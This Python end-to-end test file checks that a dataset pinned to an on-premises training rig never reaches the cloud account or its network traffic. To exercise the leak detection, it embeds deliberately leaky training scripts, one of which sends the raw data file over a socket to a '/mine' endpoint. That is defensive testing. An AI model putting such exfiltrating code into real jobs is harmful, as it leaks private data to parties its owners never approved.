"""A dataset that its policy keeps with the rig goes the whole way, and no byte of it leaves the rig.

The rig's agent and its scripts run in a network namespace of their own, and all that they send is kept and searched.
"""

from __future__ import annotations

import io
import json
import shutil
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from botocore.exceptions import ClientError

from demo.system import RIG, CommandFailed, System
from isthmus import documents
from isthmus.model import layout
from isthmus.model.crossing import Crossings
from tests.e2e import world
from tests.e2e.capture import http, search
from tests.e2e.cleanup import client

pytestmark = pytest.mark.e2e

TELLS_ALL = """
import os, shutil
where = os.path.join(os.environ["SM_CHANNEL_TRAIN"], "digits.csv")
print(open(where).read()[:2000], flush=True)
shutil.copy(where, os.environ["SM_OUTPUT_DATA_DIR"])
"""
"""What a careless script does: it prints its data, and leaves a copy beside the model."""


@pytest.fixture(scope="module")
def champion(system: System, digits: Path) -> dict[str, Any]:
    """A model of digits in service, trained on data that may be uploaded."""
    if not json.loads(system.isthmus("model", "list", "--json")):
        key = system.push(digits, world.EXAMPLE / "job.yaml", "digits")
        assert world.wait_for_end(system, key)["state"] == "DEPLOYED"
    return world.champion(system, "digits")


@pytest.fixture(scope="module")
def wards(system: System, digits: Path, champion: dict[str, Any]) -> Iterator[Path]:
    """Digits that nobody uploaded before, in a data root of the rig, pinned by the administrator."""
    home = system.folder / "scans/wards"
    for name in ("train/digits.csv", "test/digits.csv"):
        rows = np.loadtxt(digits / name, delimiter=",", dtype=np.float64)
        rows[:, :-1] += 0.0625
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        np.savetxt(home / name, rows, fmt=["%.4f"] * (rows.shape[1] - 1) + ["%d"], delimiter=",")
    settings = system.folder / "rig/rig.toml"
    before = settings.read_text()
    settings.write_text(f'{before}data_roots = {{clinic = "{home.parent}"}}\n')
    system.isthmus("policy", "set", "wards", "--zones", "onprem-*")
    system.stop_agent()
    began = len(counted(system))
    if system.endpoint_url:
        system.agent_within = enclosed(system)
        shutil.rmtree(system.folder / "capture", ignore_errors=True)
        (system.folder / "capture").mkdir()
        (system.folder / "capture-began").write_text(str(began))
    system.start_agent()
    yield home
    settings.write_text(before)
    system.stop_agent()
    system.agent_within = ()
    system.start_agent()


def enclosed(system: System) -> tuple[str | Path, ...]:
    """Return what runs a command where there is no way out but to the local cloud, under our eyes."""
    identity = json.loads((system.folder / "rig/identity.json").read_text())
    ports = {url.rstrip("/").rpartition(":")[2] for url in (system.endpoint_url, identity["endpoint"])}
    program = (sys.executable, "-m", "tests.e2e.capture.enclosed")
    return (*program, system.folder / "capture", ",".join(sorted(ports)), "--")


@pytest.fixture(scope="module")
def wanted(wards: Path) -> search.Needles:
    """Every sample of the dataset in every form."""
    lines = [
        line
        for name in ("train/digits.csv", "test/digits.csv")
        for line in (wards / name).read_bytes().splitlines()
    ]
    values = np.array([line.split(b",")[:-1] for line in lines], dtype=np.float64)
    return search.needles(values, lines)


def sent_by(system: System) -> dict[str, bytes]:
    """Return what was sent from the rig's namespace, by connection; the agent has ended."""
    return {path.name: path.read_bytes() for path in sorted((system.folder / "capture").iterdir())}


def counted(system: System) -> list[Crossings]:
    """Return the rig's own record of what left it."""
    files = sorted((system.folder / "rig/crossings").iterdir())
    return [
        documents.decode(Crossings, line, path.name)
        for path in files
        for line in path.read_bytes().splitlines()
    ]


def push(system: System, home: Path, job: Path) -> str:
    arguments = ("--name", "wards", "--job", job, "--in-place", "clinic/wards", "--json")
    return str(json.loads(system.isthmus("dataset", "push", home, *arguments))["job_key"])


def objects(system: System) -> Iterator[tuple[str, bytes]]:
    """Yield every object of the bucket, each version that there is, and what archives among them hold."""
    s3, bucket = client(system, "s3"), world.outputs(system)["Bucket"]
    for page in s3.get_paginator("list_objects_v2").paginate(Bucket=bucket):
        for entry in page.get("Contents", []):
            data = s3.get_object(Bucket=bucket, Key=entry["Key"])["Body"].read()
            yield entry["Key"], data
            if zipfile.is_zipfile(io.BytesIO(data)):
                with zipfile.ZipFile(io.BytesIO(data)) as archive:
                    for name in archive.namelist():
                        yield f"{entry['Key']}!{name}", archive.read(name)


def table(system: System) -> bytes:
    """Return every item of the table."""
    dynamodb = client(system, "dynamodb")
    pages = dynamodb.get_paginator("scan").paginate(TableName=world.outputs(system)["Table"])
    return json.dumps([page["Items"] for page in pages], default=str).encode()


def samples(home: Path) -> list[bytes]:
    """Return some samples in the forms that a careless program would write them in: text, raw, pre-processed."""
    found = []
    for name in ("train/digits.csv", "test/digits.csv"):
        lines = (home / name).read_bytes().splitlines()
        for line in (lines[0], lines[len(lines) // 2], lines[-1]):
            values = np.array(line.split(b",")[:-1], dtype=np.float32)
            found += [line[:100], values.tobytes(), (values * np.float32(0.0625)).tobytes()]
    return found


def test_an_upload_is_refused_before_a_byte_moves(system: System, wards: Path) -> None:
    with pytest.raises(CommandFailed, match="leave them there, and push with --in-place"):
        system.push(wards, world.EXAMPLE / "job.yaml", "wards")
    assert not [key for key, _ in objects(system) if key.startswith("datasets/wards/")]


def test_the_bucket_itself_takes_no_file_under_a_pinned_name(system: System) -> None:
    """Whoever asks, with whatever rights: no policy of ours has a say in it."""
    s3, bucket = client(system, "s3"), world.outputs(system)["Bucket"]
    folder = layout.dataset_folder(f"{layout.PINNED}wards")
    for key in (folder + layout.blob_path("0" * 64), f"{folder}deltas/packs/{'0' * 64}"):
        with pytest.raises(ClientError, match="with an explicit deny"):
            s3.put_object(Bucket=bucket, Key=key, Body=b"x")
    assert not [key for key, _ in objects(system) if key.startswith(folder)]


def test_a_pinned_dataset_trains_a_model_that_is_judged_beside_it(
    system: System, wards: Path, champion: dict[str, Any], tmp_path: Path
) -> None:
    key = push(system, wards, world.write_job(tmp_path, script=TELLS_ALL, evaluation={"minimum": 0.9}))
    ended = world.wait_for_end(system, key)
    assert ended["state"] in ("DEPLOYED", "REJECTED"), ended
    assert ended["candidate"] >= 0.9
    assert ended["champion"] >= 0.9, "it was scored on the same data, on the rig"
    assert world.steps_of(ended)[:5] == [
        "RegisterDataset",
        "PlanTraining",
        "WaitForRig",
        "TrainOnRig",
        "EvaluateModel",
    ]
    names = [name for name, _ in objects(system) if f"jobs/{key}/attempts/1/output/" in name]
    assert {Path(name).name for name in names} >= {"model.onnx", "judgement.json", "metrics.json"}
    assert not {Path(name).name for name in names} & {"train.log", "digits.csv"}
    withheld = system.folder / f"rig/withheld/{key}-1"
    assert (withheld / "data/digits.csv").read_bytes() == (wards / "train/digits.csv").read_bytes()


def test_no_byte_of_it_is_in_the_account(system: System, wards: Path, digits: Path) -> None:
    forms, uploaded, found = samples(wards), samples(digits), set()
    for name, data in objects(system):
        assert not [form for form in forms if form in data], f"{name} holds a sample"
        found |= {form for form in uploaded if form in data}
    assert len(found) >= 4, "of a dataset that was uploaded the same search finds samples"
    assert not [form for form in forms if form in table(system)]


def test_no_byte_of_it_leaves_the_rig(system: System, wards: Path, wanted: search.Needles) -> None:
    if not system.endpoint_url:
        pytest.skip("what a rig sends to AWS is encrypted; the local cloud speaks plain HTTP")
    system.stop_agent()
    sent = sent_by(system)
    assert sum(map(len, sent.values())) > 100_000
    assert any(b"/output/model.onnx" in data for data in sent.values()), "results went by here"
    found = {name: leaks for name, data in sent.items() if (leaks := search.leaks(data, wanted))}
    print(f"searched {sum(map(len, sent.values()))} bytes; ignored {wanted.ignored} windows of low entropy")
    assert found == {}
    assert sum(len(windows) for windows in wanted.forms.values()) > 10 * wanted.ignored
    system.start_agent()


def test_what_the_rig_counted_is_what_it_sent(system: System, wards: Path) -> None:
    """Bodies, without HTTP's own framing. The credentials' connection has none, and is encrypted."""
    if not system.endpoint_url:
        pytest.skip("what a rig sends to AWS is encrypted; the local cloud speaks plain HTTP")
    port = system.endpoint_url.rstrip("/").rpartition(":")[2]
    system.stop_agent()
    sent = [data for name, data in sent_by(system).items() if name.endswith(f"-{port}")]
    bodies = sum(len(request.body) for data in sent for request in http.requests(data))
    began = int((system.folder / "capture-began").read_text())
    rows = [row for entry in counted(system)[began:] for row in entry.rows]
    assert sum(row.size_bytes for row in rows) == bodies > 50_000
    assert sum(row.refused for row in rows) == 0, "what came before the border kept it"
    system.start_agent()


SENDS = """
import socket
with socket.create_connection(("127.0.0.1", {port})) as out:
    out.sendall(b"POST /mine HTTP/1.1\\r\\nContent-Length: 5000\\r\\n\\r\\n" + open(where, "rb").read(5000))
"""


def test_a_script_that_fails_keeps_its_last_lines_with_the_rig(
    system: System, wards: Path, wanted: search.Needles, tmp_path: Path
) -> None:
    """What it sends by itself, past the agent, is seen: so the search of before had something to find."""
    port = system.endpoint_url.rstrip("/").rpartition(":")[2]
    sends = SENDS.format(port=port) if port else ""
    script = f"{TELLS_ALL}{sends}raise ValueError(open(where).readline())\n"
    ended = world.wait_for_end(system, push(system, wards, world.write_job(tmp_path, script=script)))
    if port:
        assert [name for name, data in sent_by(system).items() if search.leaks(data, wanted)] != []
    assert (ended["state"], ended["error"]) == ("FAILED", "TrainingFailed"), ended
    assert "what it printed may not leave the rig" in ended["cause"]
    assert (wards / "train/digits.csv").read_text()[:100] not in json.dumps(ended)


def test_a_file_that_changed_fails_the_job_before_its_script_starts(
    system: System, wards: Path, tmp_path: Path
) -> None:
    file = wards / "test/digits.csv"
    before = file.read_bytes()
    system.stop_agent()
    key = push(system, wards, world.write_job(tmp_path, hyperparameters={"epochs": 3}))
    file.write_bytes(before.replace(b"0.0625", b"0.0626", 1))
    system.start_agent()
    try:
        ended = world.wait_for_end(system, key)
    finally:
        file.write_bytes(before)
    assert (ended["state"], ended["error"]) == ("FAILED", "TrainingFailed"), ended
    assert "needs test/digits.csv of clinic/wards as it was pushed, with the SHA-256" in ended["cause"]


def test_a_root_that_is_gone_is_not_offered_any_more(system: System, wards: Path, tmp_path: Path) -> None:
    aside = wards.parent.with_name("aside")
    system.stop_agent()
    wards.parent.rename(aside)
    system.start_agent()
    try:
        with pytest.raises(
            CommandFailed, match="needs a device with the data root clinic; no device has any"
        ):
            push(system, aside / "wards", world.write_job(tmp_path, hyperparameters={"epochs": 4}))
        said = json.loads(system.isthmus("rig", "show", RIG, "--json"))
        assert said["not_measured"]["data root clinic"] == "its folder is not there"
        assert str(system.folder) not in json.dumps(said)
    finally:
        aside.rename(wards.parent)
